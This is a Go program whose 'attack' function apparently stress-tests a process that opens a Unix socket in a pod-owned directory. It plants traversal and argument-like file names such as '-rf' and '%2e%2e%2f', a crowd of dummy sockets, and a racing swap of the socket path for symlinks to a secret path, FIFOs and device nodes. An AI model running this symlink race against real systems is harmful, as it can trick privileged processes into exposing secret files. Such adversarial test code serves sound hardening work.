// SPDX-License-Identifier: Apache-2.0

package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"

	"golang.org/x/sys/unix"
)

// crowd is the number of sockets that an attacker creates beside the watched one.
const crowd = 10_000

// attack misuses a directory that a pod owns. A process that opens the socket NAME there finds, in
// rapid succession, symlinks to the path secret, FIFOs, device nodes, directories and sockets, among
// odd names and a crowd of sockets. attack prints a line once the crowd exists, and goes on until ctx
// is done.
func attack(ctx context.Context, dir, name, secret string, out io.Writer) error {
	for _, odd := range []string{"new\nline.sock", "..sock", "a b", `\..\..`, "%2e%2e%2f", "\xff\xfe", "-rf"} {
		if err := plant(filepath.Join(dir, odd)); err != nil {
			return err
		}
	}
	if err := errors.Join(os.Symlink("../..", filepath.Join(dir, "up")), os.Symlink("/", filepath.Join(dir, "root"))); err != nil {
		return err
	}
	failed := make(chan error, 1)
	go func() {
		for i := range crowd {
			if err := plant(filepath.Join(dir, fmt.Sprint("s", i))); err != nil {
				failed <- fmt.Errorf("socket %d: %w", i, err)
				return
			}
		}
		fmt.Fprintln(out, "the crowd is there")
		failed <- nil
	}()
	at, tmp := filepath.Join(dir, name), filepath.Join(dir, "tmp")
	for i := 0; ctx.Err() == nil; i++ {
		var err error
		os.RemoveAll(tmp)
		switch i % 6 {
		case 0:
			err = os.Symlink(secret, tmp)
		case 1:
			err = unix.Mkfifo(tmp, 0o666)
		case 2:
			err = unix.Mknod(tmp, unix.S_IFCHR|0o666, int(unix.Mkdev(1, 5)))
		case 3:
			err = errors.Join(os.Mkdir(tmp, 0o777), os.RemoveAll(at))
		case 4:
			err = errors.Join(os.Symlink("../../.."+secret, tmp), os.RemoveAll(at))
		case 5:
			err = errors.Join(plant(tmp), os.RemoveAll(at))
		}
		if err == nil {
			err = os.Rename(tmp, at)
		}
		if err != nil { // which stops nobody
			fmt.Fprintf(out, "attack %d: %v\n", i, err)
			os.RemoveAll(at)
		}
	}
	return <-failed
}

// plant creates a socket file that no process listens on.
func plant(path string) error {
	l, err := net.ListenUnix("unix", &net.UnixAddr{Name: path, Net: "unix"})
	if err != nil {
		return err
	}
	l.SetUnlinkOnClose(false)
	return l.Close()
}
